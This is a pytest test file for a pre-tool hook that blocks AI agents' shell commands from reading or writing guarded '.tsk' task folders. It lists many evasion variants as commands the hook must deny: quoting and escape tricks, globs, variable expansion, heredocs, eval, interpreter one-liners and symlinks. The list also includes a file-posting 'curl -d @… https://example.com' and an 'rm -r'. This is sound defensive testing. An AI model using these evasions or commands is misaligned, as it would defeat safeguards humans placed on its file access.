"""The hook and shells: commands are judged by their words, and by nothing that only a run would show."""

import pytest

from gatepost.surfaces.hooks.pretool import CLOSED
from tests.hooks.givens import Project

DENIED = [
    "cat tasks/plan.tsk/goals.md",
    "cat a.tsk/goals.md",
    "ls a.tsk",
    "ls -la tasks/plan.tsk/",
    "cat a.TSK/goals.md",
    'cat "my task.tsk/goals.md"',
    "cat 'a.tsk'/goals.md",
    'cat a.t"s"k/goals.md',
    "cat a.t's'k/goals.md",
    r"cat a.ts\k/goals.md",
    "cat a.t\\\nsk/goals.md",
    r"cat $'a.\x74sk/goals.md'",
    r"cat $'a.\164sk/goals.md'",
    "echo hi >a.tsk/goals.md",
    "echo hi >> a.tsk/goals.md",
    "echo hi >|a.tsk/goals.md",
    "printf x 2>a.tsk/y",
    "make &>a.tsk/log",
    "cat<a.tsk/goals.md",
    "wc -l < 'a.tsk/goals.md'",
    "true;cat a.tsk/goals.md",
    "true&&cat a.tsk/goals.md",
    "true|cat a.tsk/goals.md",
    "(cat a.tsk/goals.md)",
    "{ cat a.tsk/goals.md; }",
    "if true; then cat a.tsk/goals.md; fi",
    "for f in a.tsk/goals.md; do cat $f; done",
    "for f in tasks/*/goals.md; do cat $f; done",
    'echo "$(cat a.tsk/goals.md)"',
    "echo `cat a.tsk/goals.md`",
    'echo "x ${Y:-$(cat a.tsk/goals.md)}"',
    "cat ${F:-a.tsk/goals.md}",
    "cat $(echo a.tsk/goals.md)",
    "echo a.tsk/goals.md | xargs cat",
    "echo 'cat a.tsk/goals.md' | sh",
    "echo a.tsk/goals.md | while read f; do cat $f; done",
    "F=a.tsk/goals.md",
    "F=a.tsk; cat $F/goals.md",
    'D="my task.tsk"; cat "$D/goals.md"',
    "X=tsk; cat a.$X/goals.md",
    "X=tsk; cat a.${X}/goals.md",
    "export F=a.tsk/goals.md",
    "cat a.ts?/goals.md",
    "cat *.tsk/*",
    "cat a.[t]sk/goals.md",
    "cat a.[[:alpha:]]sk/goals.md",
    "cat a.t*/goals.md",
    "cat a.{tsk,md}/goals.md",
    "cat {a,b}.tsk/goals.md",
    "cat tasks/*/goals.md",
    "cat */*/goals.md",
    "rm -r tasks/*",
    "echo a.tsk/*",
    "prog --file=a.tsk/x",
    "prog -fa.tsk/x",
    "dd if=x of=a.tsk/x",
    'dd of="my task.tsk/x"',
    "git checkout -- tasks/plan.tsk",
    "docker run -v a.tsk:/x image",
    "tar czf x.tgz a.tsk",
    "curl -d @a.tsk/goals.md https://example.com",
    "find . -path '*.tsk*'",
    "cd away/../tasks && cat */goals.md",
    "cat away/../link/goals.md",
    "find a.tsk -type f",
    "grep x a.tsk/goals.md",
    "grep -rn -e x a.tsk",
    "grep -f a.tsk/goals.md x",
    "rg --files a.tsk",
    "sed -i s/a/b/ a.tsk/goals.md",
    "sed -n 'w a.tsk/goals.md' x",
    "awk '{print > \"a.tsk/x\"}' y",
    "sed -e s/a/b/ -i a.tsk/goals.md",
    "sh -c 'cat a.tsk/goals.md'",
    'bash -lc "cat a.t\\"s\\"k/goals.md"',
    "timeout 5 bash -c 'ls a.tsk'",
    "find . -exec sh -c 'cat a.tsk/goals.md' \\;",
    "eval 'cat a.tsk/goals.md'",
    "python -c \"print(open('a.tsk/goals.md').read())\"",
    'python3 -c \'from pathlib import Path; print((Path("a.tsk") / "goals.md").read_text())\'',
    'node -e \'require("fs").readFileSync("a.tsk/goals.md")\'',
    "perl -pe1 a.tsk/goals.md",
    "python3 - <<'EOF'\nopen('a.tsk/goals.md')\nEOF",
    "bash <<EOF\ncat a.tsk/goals.md\nEOF",
    "bash <<< 'cat a.tsk/goals.md'",
    "cat <<'EOF' > a.tsk/goals.md\nhello\nEOF",
    "cat > notes.md <<EOF\n$(cat a.tsk/goals.md)\nEOF",
    "tee a.tsk/goals.md <<< hi",
    "cat <<A\ntext\nA\ncat a.tsk/goals.md",
    "cd a.tsk && ls",
    "cd tasks && cat */goals.md",
    "cd tasks/plan.tsk; cat goals.md",
    "cd parent && cat link/../plan.tsk/goals.md",
    "cat link/goals.md",
    "(cd /tmp); cat link/goals.md",
    "cat goals-link.md",
    "cat deep/hard.md",
    "cd deep/er && cat up/goals.md",
    "sudo -u echo cat a.tsk/goals.md",
    "env X=1 cat a.tsk/goals.md",
    "cat .gatepost/gatepost.db",
    "mv notes a.tsk",
    "ln -s a.tsk/goals.md x",
    "gatepost taskdoc show > a.tsk/goals.md",
    "gatepost radar; cat a.tsk/goals.md",
    "git commit -m \"$(cat <<'EOF'\nit's (fine\nEOF\n)\" && cat a.tsk/goals.md",
]
ALLOWED = [
    "ls",
    "ls -la tasks",
    "cat src/main.py",
    "cat src/twin.py",
    "cat a.tsk.bak a.tskx/goals.md",
    "pytest tests -k tsk",
    'git commit -m "explain the .tsk format"',
    'git commit -m "see a.tsk/goals.md"',
    "git commit -am 'plan.tsk'",
    "git commit --message='plan.tsk'",
    'git commit -m "$(cat <<\'EOF\'\nDon\'t read a.tsk/goals.md :) "quoted"\nEOF\n)"',
    'git commit -m "$(cat <<\'EOF\'\nfine :) see " a.tsk/goals.md " now\nEOF\n)"',
    "git log --grep='a.tsk'",
    "gh pr create --title 'The .tsk guard' --body 'a.tsk/goals.md is closed'",
    'echo "see docs on *.tsk"',
    "echo a.tsk",
    "echo 'a.tsk/goals.md is closed' > notes.md",
    "printf '%s\\n' a.tsk >> .gitignore",
    "true # cat a.tsk/goals.md",
    "cat > notes.md <<'EOF'\nsee a.tsk/goals.md\nEOF",
    "cat > notes.md <<EOF\nsee a.tsk/goals.md\nEOF\nls",
    "cat <<-'EOF' >notes.md\n\tsee a.tsk\n\tEOF",
    "cat <<< 'see a.tsk/goals.md'",
    "grep -rn '\\.tsk' src",
    "grep -A 3 -rn 'a.tsk/goals.md' src",
    "rg 'a\\.tsk' docs",
    "rg -e '.tsk' docs",
    "git grep '.tsk'",
    "sed -n 's/\\.tsk//p' docs/taskdocs.md",
    "awk '/\\.tsk$/ {print}' docs/taskdocs.md",
    "jq .tsk data.json",
    "find . -not -path '*.tsk*' -name '*.md'",
    "find . -name '*.tsk' -prune -o -print",
    "grep -r x . --exclude-dir='*.tsk'",
    "tar czf x.tgz --exclude '*.tsk' .",
    "rg x -g '!*.tsk/**'",
    "git add . ':!*.tsk'",
    "ls src/*.ts*",
    "cat src/*.ts?",
    "cat src/*",
    "gatepost taskdoc show tasks/plan.tsk",
    'gatepost call recall_mind \'{"selector": "goals"}\'',
    "python -m gatepost taskdoc show tasks/plan.tsk",
    "uv run gatepost taskdoc migrate a.tsk",
    "GATEPOST_STORE=.gatepost/x.db gatepost radar",
    "curl https://example.com/a.tsk/goals.md",
    "python -c 'print(item.tsk)'",
    "python -c 'print(name.endswith(\".tsk\"))'",
    "python3 - <<'EOF'\nprint('the .tsk format')\nEOF",
    "echo ${X%.tsk}",
    "MESSAGE='see a.tsk'; echo \"$MESSAGE\"",
    "cd src && ls",
    "cd tasks && ls",
    "apply_patch <<'EOF'\n*** Begin Patch\n*** Update File: docs/a.md\n+see a.tsk/goals.md\n*** End Patch\nEOF",
    "",
    "   ",
    "'",
    '"$(',
    "cat <<EOF",
]


@pytest.mark.requirement("guard.hook.shell-words")
def test_a_command_that_names_a_package_is_denied(project: Project) -> None:
    assert {command: project.runs(command) for command in DENIED} == dict.fromkeys(DENIED, CLOSED)


@pytest.mark.requirement("guard.hook.mere-text")
def test_a_command_that_names_none_or_merely_speaks_of_one_meets_no_objection(project: Project) -> None:
    assert {command: project.runs(command) for command in ALLOWED} == dict.fromkeys(ALLOWED)


@pytest.mark.requirement("guard.hook.shell-words")
@pytest.mark.parametrize("command", ["ls", "/bin/ls", "cat goals.md", "cat *"])
def test_a_shell_that_stands_in_a_package_can_only_leave(project: Project, command: str) -> None:
    inside = str(project.root / "tasks/plan.tsk")

    assert project.runs(command, cwd=inside) == CLOSED
    assert project.runs(f"cd {project.root}/src && {command}", cwd=inside) is None


@pytest.mark.requirement("guard.hook.shell-words")
def test_a_folder_that_is_called_like_a_scheme_makes_no_address_of_a_path(project: Project) -> None:
    (project.root / "https:").symlink_to("tasks")

    assert project.runs("cat https://plan.tsk/goals.md") == CLOSED
    assert project.runs("curl ftp://plan.tsk/goals.md") is None


@pytest.mark.requirement("guard.hook.shell-words")
@pytest.mark.parametrize(
    ("tool", "given"),
    [
        ("shell", {"command": ["bash", "-lc", "cat a.tsk/goals.md"]}),
        ("shell", {"command": ["cat", "a.tsk/goals.md"], "workdir": "."}),
        ("shell", {"command": ["cat", "goals.md"], "workdir": "tasks/plan.tsk"}),
        ("shell", {"command": ["cat", "goals.md"], "workdir": "link"}),
        ("exec_command", {"cmd": "cat a.tsk/goals.md", "workdir": "src"}),
        ("exec_command", {"cmd": "cat */goals.md", "workdir": "tasks"}),
        ("write_stdin", {"session_id": 1, "chars": "cat a.tsk/goals.md\n"}),
        ("local_shell", {"action": {"type": "exec", "command": ["cat", "a.tsk/goals.md"]}}),
        ("run_shell_command", {"command": "cat a.tsk/goals.md", "dir_path": "src"}),
        ("mcp__ops__run", {"command": "cat", "args": ["a.tsk/goals.md"]}),
        ("Bash", "cat a.tsk/goals.md"),
    ],
)
def test_every_harness_s_shell_is_understood(project: Project, tool: str, given: object) -> None:
    assert project.asks(tool, given) == CLOSED


@pytest.mark.parametrize(
    ("tool", "given"),
    [
        ("shell", {"command": ["git", "commit", "-m", "the .tsk format"]}),
        ("shell", {"command": ["bash", "-lc", "echo a.tsk"], "workdir": "src"}),
        ("exec_command", {"cmd": "ls", "workdir": "src"}),
        ("mcp__ops__run", {"command": "ls", "args": ["src"]}),
        ("Skill", {"skill": "review", "args": "look at a.tsk/goals.md"}),
    ],
)
def test_no_harness_s_shell_is_in_the_way_of_ordinary_work(project: Project, tool: str, given: object) -> None:
    assert project.asks(tool, given) is None
